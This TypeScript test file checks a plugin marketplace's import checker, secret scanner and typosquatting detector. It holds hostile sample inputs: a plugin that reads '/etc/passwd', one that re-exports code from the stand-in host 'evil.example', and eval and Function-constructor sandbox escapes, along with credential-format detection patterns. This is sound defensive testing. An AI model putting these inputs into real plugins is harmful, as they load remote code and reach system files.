// The checks of a review, each held against what it must find and what it must leave alone.
// Must not start a service.
import assert from 'node:assert/strict';
import { checkImports } from '../../../admin/marketplace/checks/imports.ts';
import { checkSecrets } from '../../../admin/marketplace/checks/secrets.ts';
import { listSimilar } from '../../../admin/marketplace/checks/similarity.ts';

describe('the check of imports', () => {
  const cases: readonly (readonly [string, 'passed' | 'warned' | 'failed', RegExp?])[] = [
    ["import { definePlugin } from 'sallyport/plugin'; export const plugin = definePlugin({});", 'passed'],
    ['export const plugin = {};', 'passed'],
    ['const text = "import fs from \'node:fs\'"; export const plugin = { text };', 'passed'],
    ["// import('node:fs')\nexport const plugin = {};", 'passed'],
    ['const isImport = /import\\("x"\\)/; export const plugin = { isImport };', 'passed'],
    ["import fs from 'node:fs'; export const plugin = { fs };", 'failed', /node:fs/],
    ["import 'sallyport/plugin/../../x'; export const plugin = {};", 'failed'],
    ["import x from './other.js'; export const plugin = { x };", 'failed', /other\.js/],
    ["import x from '/etc/passwd'; export const plugin = { x };", 'failed'],
    ["export * from 'https://evil.example/x.js'; export const plugin = {};", 'failed'],
    ["export const plugin = { onRequest: () => import('node:fs') };", 'failed', /dynamic-import/],
    ["export const plugin = { onRequest: () => import('sallyport/plugin') };", 'failed', /dynamic-import/],
    ['export const plugin = { onRequest: (x) => import(x.name) };', 'failed', /made at run time/],
    ['export const plugin = { onRequest: (x) => import(`node:$' + '{x}`) };', 'failed'],
    ["const fs = require('fs'); export const plugin = { fs };", 'failed', /require-call/],
    ['export const plugin = { onRequest: (x) => require(x) };', 'failed'],
    ['const load = require; export const plugin = { load };', 'failed', /require/],
    ['const { a = import("x") } = {}; export const plugin = { a };', 'failed'],
    ["export const plugin = { onRequest: () => eval('1') };", 'warned', /eval/],
    ["export const plugin = { onRequest: () => (0, eval)('1') };", 'warned'],
    ["export const plugin = { onRequest: () => new Function('return 1')() };", 'warned'],
    ["export const plugin = { onRequest: () => (() => 1).constructor('return process')() };", 'warned'],
    ['export const plugin = {', 'failed', /does not parse/],
    ['<html>', 'failed', /does not parse/],
    ['', 'passed'],
  ];

  for (const [code, result, detail] of cases) {
    it(`says ${result} of ${code.slice(0, 70)}`, async () => {
      const check = await checkImports(code);

      assert.equal(check.result, result, check.detail);
      if (detail !== undefined) assert.match(check.detail, detail);
    });
  }

  it('keeps its detail short, whatever the code imports', async () => {
    const code = Array.from({ length: 500 }, (_, index) => `import 'm${index}${'x'.repeat(200)}';`).join('\n');

    const check = await checkImports(code);

    assert.equal(check.result, 'failed');
    assert.ok(check.detail.length <= 1000);
  });
});

describe('the check of secrets', () => {
  const x = (length: number): string => 'x'.repeat(length);
  const secrets = [
    `-----BEGIN PRIVATE ${'KEY'}-----`,
    `-----BEGIN RSA PRIVATE ${'KEY'}-----`,
    `-----BEGIN OPENSSH PRIVATE ${'KEY'}-----`,
    `-----BEGIN PGP PRIVATE ${'KEY'} BLOCK-----`,
    `sallyport_${x(43)}`,
    `ghp_${x(36)}`,
    `npm_${x(36)}`,
    `AKIA${'A'.repeat(16)}`,
    `AIza${x(35)}`,
    `xoxb-${x(12)}`,
    `sk_live_${x(24)}`,
    `//registry.npmjs.org/:_authToken=${x(20)}`,
  ];

  for (const secret of secrets) {
    it(`finds ${secret.slice(0, 30)} and does not repeat it`, () => {
      const check = checkSecrets(new Map([['README.md', Buffer.from(`before ${secret} after`)]]));

      assert.equal(check.result, 'failed');
      assert.match(check.detail, /README\.md/);
      assert.ok(!check.detail.includes(secret));
    });
  }

  it('leaves public keys, digests and words alone', () => {
    const text = `-----BEGIN PUBLIC KEY-----\n${x(64)}\n sha256 ${'a'.repeat(64)} the sallyport_token and npm_config_registry`;

    const check = checkSecrets(new Map([['index.js', Buffer.from(text)]]));

    assert.equal(check.result, 'passed', check.detail);
  });

  it('reads megabytes that are made to be slow in well under a second', () => {
    const lines = ['-----BEGIN ', 'A '.repeat(8), '//a:', 'sk-ant-x ', 'xox'].map((part) => part.repeat(200_000));
    const startedAt = performance.now();

    const check = checkSecrets(new Map([['index.js', Buffer.from(lines.join('\n'))]]));

    assert.equal(check.result, 'passed', check.detail);
    assert.ok(performance.now() - startedAt < 1000);
  });
});

describe('similar namespaces', () => {
  const cases: readonly (readonly [string, string, boolean])[] = [
    ['acme', 'acme', false],
    ['acme', 'acrne', true],
    ['paypal', 'paypa1', true],
    ['paypal', 'pay-pal', true],
    ['google', 'g00gle', true],
    ['acme', 'acmee', true],
    ['acme', 'amce', true],
    ['acme', 'bcme', true],
    ['acme', 'emca', false],
    ['ab', 'ac', false],
    ['north', 'south', false],
    ['acme', 'acme-labs', false],
  ];

  for (const [one, other, isSimilar] of cases) {
    it(`${isSimilar ? 'finds' : 'does not find'} ${other} like ${one}`, () => {
      assert.deepEqual(listSimilar(one, [other]), isSimilar ? [other] : []);
    });
  }
});
